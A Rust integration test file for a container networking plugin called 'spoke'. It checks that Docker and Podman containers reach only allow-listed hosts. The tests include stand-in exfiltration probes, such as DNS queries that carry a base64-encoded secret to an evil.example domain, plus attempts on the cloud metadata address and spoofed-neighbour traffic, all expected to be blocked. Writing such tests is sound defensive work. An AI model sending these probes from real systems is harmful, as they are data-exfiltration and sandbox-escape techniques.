//! Containers of Docker and of Podman.

use tests::{Engine, Plugins, Podman5, PodmanRelease, Release, Serve, World};

use crate::bed::{RULES as TABLE_RULES, attempts, prepare, until};
use crate::escapes::{Containers, nothing_gets_out};

const RULES: &str = "*.allowed.example:443,203.0.113.20:5432";

/// A part of the table, by a container's own resolver and in its own namespace.
#[track_caller]
fn is_fenced(world: &World, netns: &str, resolver: &str, gateway: &str) {
    let table = [
        ("allowed", format!("ask {resolver} good.allowed.example"), "203.0.113.10"),
        ("evil", format!("ask {resolver} c2vjcmv0.evil.example"), "NXDOMAIN"),
        ("evil-text", format!("ask {resolver} c2vjcmv0.evil.example TXT"), "NXDOMAIN"),
        ("evil-tcp", format!("ask {resolver} c2vjcmv0.evil.example A tcp"), "NXDOMAIN"),
        ("elsewhere", "ask 203.0.113.8 c2vjcmv0.evil.example".to_owned(), "NXDOMAIN"),
        ("private", format!("ask {resolver} private.allowed.example"), "nothing"),
        ("https", format!("ask {resolver} good.allowed.example HTTPS"), "nothing"),
    ];
    let after = [
        ("to-name", "tcp 203.0.113.10 443".to_owned(), "open"),
        ("to-rule", "tcp 203.0.113.20 5432".to_owned(), "open"),
        ("port", "tcp 203.0.113.10 80".to_owned(), "shut"),
        ("quic", "udp 203.0.113.10 443".to_owned(), "shut"),
        ("address", "tcp 203.0.113.99 443".to_owned(), "shut"),
        ("dot", "tcp 203.0.113.8 853".to_owned(), "shut"),
        ("ping", "ping 203.0.113.10".to_owned(), "shut"),
        ("metadata", "tcp 169.254.169.254 80".to_owned(), "shut"),
        ("gateway", format!("tcp {gateway} 8022"), "shut"),
        ("host", "tcp 203.0.113.254 8022".to_owned(), "shut"),
    ];
    for part in [&table[..], &after[..]] {
        let lines: String = part.iter().map(|(name, it, _)| format!("{name} {it}\n")).collect();
        let results = attempts(world, netns, &lines);
        for (name, attempt, expected) in part {
            let result = results[*name].as_str();
            // Docker's own server says of a name that is refused that it has no address.
            let is_refused = *expected == "NXDOMAIN" && result == "nothing";
            let is_docker_s = is_refused && attempt.contains("127.0.0.11");
            assert!(result == *expected || is_docker_s, "{attempt}: {result}\n{}", world.logs());
        }
    }
    let asked = world.sh("cat /world/asked");
    assert!(!asked.contains("c2vjcmv0"), "{asked}");
}

/// The rules of routing of strict networks, and of those with a strict container.
const DROPPED_UNMARKED: &str = "ip rule | grep -c blackhole || true";

#[test]
fn docker_s_containers_are_fenced() {
    let release = Release::V28_5;
    if !release.is_there() {
        return;
    }
    let mut engine = Engine::prepared(release, &Plugins::subject());
    prepare(engine.world());
    let _serve = Serve::start(engine.world(), &[]);
    // Without it Docker's own server asks the host's servers from the host, past every container's network.
    engine.start(&["--dns", "203.0.113.53"]);
    engine.import();
    docker_s_table(&engine);
    let create = format!("network create -d spoke --ipam-driver spoke -o egress={RULES}");
    engine.docker(&format!("{create} --subnet 10.83.1.0/24 agents"));
    let refused = engine.try_docker(&format!("{create} -o ports=docker --subnet 10.83.2.0/24 way"));
    assert!(refused.stderr.contains("egress"), "{refused:?}");
    let refused = engine.try_docker(&format!("{create} --internal --subnet 10.83.2.0/24 inner"));
    assert!(refused.stderr.contains("internal network"), "{refused:?}");
    // The rules are there before the first container is.
    let world = engine.world();
    assert!(world.sh("nft list set inet spoke_fence allowed4").contains("203.0.113.20"));
    engine.docker("run -d --network agents --name agent -p 8088:8088 busybox /bin/sleep 3600");
    until(world, "nft list table inet spoke_names 2>/dev/null | grep -q ' 10.83.1.1 '");
    until(world, "/opt/cni/bin/spoke dns query agent >/dev/null 2>&1");
    let key = engine.docker("inspect --format {{.NetworkSettings.SandboxKey}} agent");
    let key = key.trim().replace("/var/run/", "/run/");
    is_fenced(world, &key, "127.0.0.11", "10.83.1.1");
    docker_s_container_is_on_two(&engine, &key);
    docker_s_container_has_rules_of_its_own(&engine);
    let network = world.sh("/opt/cni/bin/spoke denied -o json");
    assert!(
        network.contains("\"agent\"") && network.contains("c2vjcmv0.evil.example"),
        "{network}"
    );
    let name = world.sh("/opt/cni/bin/spoke network ls -q").trim().to_owned();
    world.sh(&format!("/opt/cni/bin/spoke egress set {name} none"));
    let shut = attempts(world, &key, "it tcp 203.0.113.20 5432");
    assert_eq!(shut["it"], "shut");
    engine.docker("rm -f agent");
    engine.docker("network rm agents");
    until(world, "! nft list table inet spoke_fence >/dev/null 2>&1");
}

/// The whole table of ways out (`rows.rs`), by Docker's own server, too.
#[track_caller]
fn docker_s_table(engine: &Engine) {
    let world = engine.world();
    let create = "network create -d spoke --ipam-driver spoke";
    engine.docker(&format!(
        "{create} -o 'egress={TABLE_RULES}' --ipv6 --subnet 10.81.1.0/24 --subnet fd81:1::/64 fenced"
    ));
    engine.docker(&format!("{create} --subnet 10.81.2.0/24 plain"));
    let both = |last: u8| format!("--network fenced --ip 10.81.1.{last} --ip6 fd81:1::{last}");
    let netns = [
        ("agent", both(9)),
        ("mate", both(8)),
        ("other", "--network plain --ip 10.81.2.9".to_owned()),
    ];
    let netns = netns.map(|(name, at)| {
        engine.docker(&format!("run -d --name {name} {at} busybox /bin/sleep 3600"));
        let key =
            engine.docker(&format!("inspect --format {{{{.NetworkSettings.SandboxKey}}}} {name}"));
        key.trim().replace("/var/run/", "/run/")
    });
    let [agent, mate, other] = netns.each_ref().map(String::as_str);
    for name in ["agent", "mate"] {
        until(world, &format!("/opt/cni/bin/spoke dns query {name} >/dev/null 2>&1"));
    }
    until(world, &format!("nsenter --net={agent} ss -Hlun | grep -q 127.0.0.11:"));
    let resolver = Some("127.0.0.11");
    nothing_gets_out(world, &Containers { agent, mate, other, resolver });
    engine.remove_each("agent mate other");
    engine.docker("network rm fenced plain");
    world.sh("ip route del 10.99.0.0/24 2>/dev/null || :");
}

/// What either network allows is answered, and is open by the network that allows it.
#[track_caller]
fn docker_s_container_is_on_two(engine: &Engine, netns: &str) {
    let world = engine.world();
    engine.docker(
        "network create -d spoke --ipam-driver spoke -o egress=exact.example:443 \
         --subnet 10.83.6.0/24 tools",
    );
    // The default route is by this one, and the other one is first in the alphabet.
    engine.docker("network connect --gw-priority 1 tools agent");
    let table = [
        ("second", "ask 127.0.0.11 exact.example", "203.0.113.16"),
        ("first", "ask 127.0.0.11 good.allowed.example", "203.0.113.10"),
        ("none", "ask 127.0.0.11 c2vjcmv0.evil.example", "NXDOMAIN"),
    ];
    let after = [
        ("by-second", "tcp 203.0.113.16 443", "open"),
        ("not-by-second", "tcp 203.0.113.10 443", "shut"),
    ];
    for part in [&table[..], &after[..]] {
        let lines: String = part.iter().map(|(name, it, _)| format!("{name} {it}\n")).collect();
        let results = attempts(world, netns, &lines);
        for (name, attempt, expected) in part {
            assert_eq!(results[*name], *expected, "{attempt}\n{}", world.logs());
        }
    }
    let asked = world.sh("cat /world/asked");
    assert!(!asked.contains("c2vjcmv0"), "{asked}");
    engine.docker("network disconnect tools agent");
    engine.docker("network rm tools");
}

/// What a container with rules of its own sends as a neighbour is dropped at its port, which is there.
#[track_caller]
fn sends_in_no_other_name(world: &World, netns: &str, neighbour: &str) {
    let table = format!("it spoof {neighbour} 203.0.113.97 8443\n");
    attempts(world, netns, &table);
    let checked = world
        .sh("nft list set bridge spoke bound | grep -o '\"[^\"]*\" comment' | cut -d '\"' -f 2");
    assert!(!checked.trim().is_empty());
    for port in checked.lines() {
        world.sh(&format!("ip -o link show dev {port} | grep -q ' master '"));
    }
    let seen = world.sh("ip netns exec world nft list table inet seen");
    assert!(!seen.contains("203.0.113.97"), "{seen}");
}

/// Given as options of its endpoint; kept over its restart, as those that a command set.
#[track_caller]
fn docker_s_container_has_rules_of_its_own(engine: &Engine) {
    let world = engine.world();
    let rules = "*.allowed.example:443,203.0.113.20:5432";
    engine.docker(
        "network create -d spoke --ipam-driver spoke -o names=true --subnet 10.83.4.0/24 open",
    );
    let bad = engine
        .try_docker("run -d --network name=open,driver-opt=egress=github.com busybox /bin/sleep 9");
    assert!(bad.stderr.contains("github.com:443"), "{bad:?}");
    engine.docker(&format!(
        "run -d --network 'name=open,\"driver-opt=egress={rules}\",driver-opt=egress-strict=true' --name own busybox /bin/sleep 3600"
    ));
    assert_eq!(world.sh(DROPPED_UNMARKED).trim(), "1");
    engine.docker("run -d --network open --name loose busybox /bin/sleep 3600");
    let key = |name: &str| {
        let key =
            engine.docker(&format!("inspect --format {{{{.NetworkSettings.SandboxKey}}}} {name}"));
        key.trim().replace("/var/run/", "/run/")
    };
    let named = |name: &str| {
        until(world, &format!("/opt/cni/bin/spoke dns query {name} >/dev/null 2>&1"));
        let opened = "ss -Hlun | grep -q 127.0.0.11:";
        until(world, &format!("nsenter --net={} {opened}", key(name)));
        key(name)
    };
    is_fenced(world, &named("own"), "127.0.0.11", "10.83.4.1");
    sends_in_no_other_name(world, &named("own"), "10.83.4.250");
    let free = attempts(world, &named("loose"), "it tcp 203.0.113.99 443");
    assert_eq!(free["it"], "open");
    // One that runs, by Docker and by Spoke; then it starts again.
    engine.docker("network disconnect open loose");
    engine.docker("network connect --driver-opt egress=203.0.113.22:5432 open loose");
    let table = "of tcp 203.0.113.22 5432\nnot tcp 203.0.113.99 443\n";
    let now = attempts(world, &named("loose"), table);
    assert_eq!([&*now["of"], &*now["not"]], ["open", "shut"]);
    world.sh("/opt/cni/bin/spoke egress set --container docker:own 203.0.113.22:5432");
    engine.docker("restart -t 0 own loose");
    // Docker says only afterwards who has started.
    let both =
        "[ \\$(nft list set inet spoke_fence own_allowed4 | grep -o 203.0.113.22 | wc -l) = 2 ]";
    until(world, both);
    for name in ["own", "loose"] {
        let key = named(name);
        let now = attempts(world, &key, table);
        assert_eq!([&*now["of"], &*now["not"]], ["open", "shut"], "{name}");
    }
    engine.docker("rm -f own loose");
    engine.docker("network rm open");
    refuses_rules_beside_docker_s_own_way(engine);
}

/// Docker's own bridge would lead past the rules.
#[track_caller]
fn refuses_rules_beside_docker_s_own_way(engine: &Engine) {
    engine.docker(
        "network create -d spoke --ipam-driver spoke -o names=true -o ports=docker \
         --subnet 10.83.5.0/24 way",
    );
    let refused =
        engine.try_docker("run --rm --network name=way,driver-opt=egress=none busybox /bin/true");
    assert!(refused.stderr.contains("-o ports=docker"), "{refused:?}");
    engine.docker("run -d --network way --name past busybox /bin/sleep 3600");
    let set = "/opt/cni/bin/spoke egress set --container docker:past none";
    let refused = engine.world().try_sh(set);
    assert!(refused.stderr.contains("-o ports=docker"), "{refused:?}");
    engine.docker("rm -f past");
    engine.docker("network rm way");
}

#[test]
fn podman_s_containers_are_fenced() {
    let Some(podman) = Podman5::new(PodmanRelease::V5_4) else { return };
    prepare(&podman.world);
    let _serve = Serve::start(&podman.world, &[]);
    podman_s_table(&podman);
    podman
        .podman(&format!("network create -d spoke -o egress={RULES} --subnet 10.83.3.0/24 agents"));
    podman.run("agent", "--network agents:ip=10.83.3.9", "");
    let world = &podman.world;
    until(world, "nft list table inet spoke_names 2>/dev/null | grep -q ' 10.83.3.1 '");
    let key = podman.podman("inspect --format {{.NetworkSettings.SandboxKey}} agent");
    is_fenced(world, key.trim(), "10.83.3.1", "10.83.3.1");
    let ping = "/run/stage/podman exec agent /bin/ping -c 1 -W 1 evil.example";
    assert!(world.try_sh(ping).status != 0);
    // One container has others.
    let bad = podman.run_refused("--network agents:egress=github.com");
    assert!(bad.contains("github.com:443"), "{bad}");
    podman.run(
        "own",
        "--network 'agents:egress=203.0.113.22:5432;203.0.113.20:80,egress-strict=true'",
        "",
    );
    assert_eq!(world.sh(DROPPED_UNMARKED).trim(), "1");
    let key = podman.podman("inspect --format {{.NetworkSettings.SandboxKey}} own");
    let table = "of tcp 203.0.113.22 5432\nof-too tcp 203.0.113.20 80\nnot tcp 203.0.113.20 5432\n\
                 named ask 10.83.3.1 good.allowed.example\n";
    until(world, "/opt/cni/bin/spoke dns query own >/dev/null 2>&1");
    let now = attempts(world, key.trim(), table);
    sends_in_no_other_name(world, key.trim(), "10.83.3.250");
    let now = ["of", "of-too", "not", "named"].map(|it| now[it].as_str());
    assert_eq!(now, ["open", "open", "shut", "NXDOMAIN"]);
    podman.podman("rm -f -t 0 agent own");
    until(world, &format!("[ \\$({DROPPED_UNMARKED}) = 0 ]"));
    podman.podman("network rm agents");
}

/// The whole table of ways out (`rows.rs`).
#[track_caller]
fn podman_s_table(podman: &Podman5) {
    let create = "network create -d spoke";
    podman.podman(&format!(
        "{create} -o 'egress={TABLE_RULES}' --ipv6 --subnet 10.81.1.0/24 --subnet fd81:1::/64 fenced"
    ));
    podman.podman(&format!("{create} --subnet 10.81.2.0/24 plain"));
    let both = |last: u8| format!("--network fenced:ip=10.81.1.{last},ip=fd81:1::{last}");
    let netns = [
        ("agent", both(9)),
        ("mate", both(8)),
        ("other", "--network plain:ip=10.81.2.9".to_owned()),
    ];
    let netns = netns.map(|(name, at)| {
        podman.run(name, &at, "");
        let key =
            podman.podman(&format!("inspect --format {{{{.NetworkSettings.SandboxKey}}}} {name}"));
        key.trim().to_owned()
    });
    let [agent, mate, other] = netns.each_ref().map(String::as_str);
    nothing_gets_out(&podman.world, &Containers { agent, mate, other, resolver: None });
    podman.podman("rm -f -t 0 agent mate other");
    podman.podman("network rm fenced plain");
}
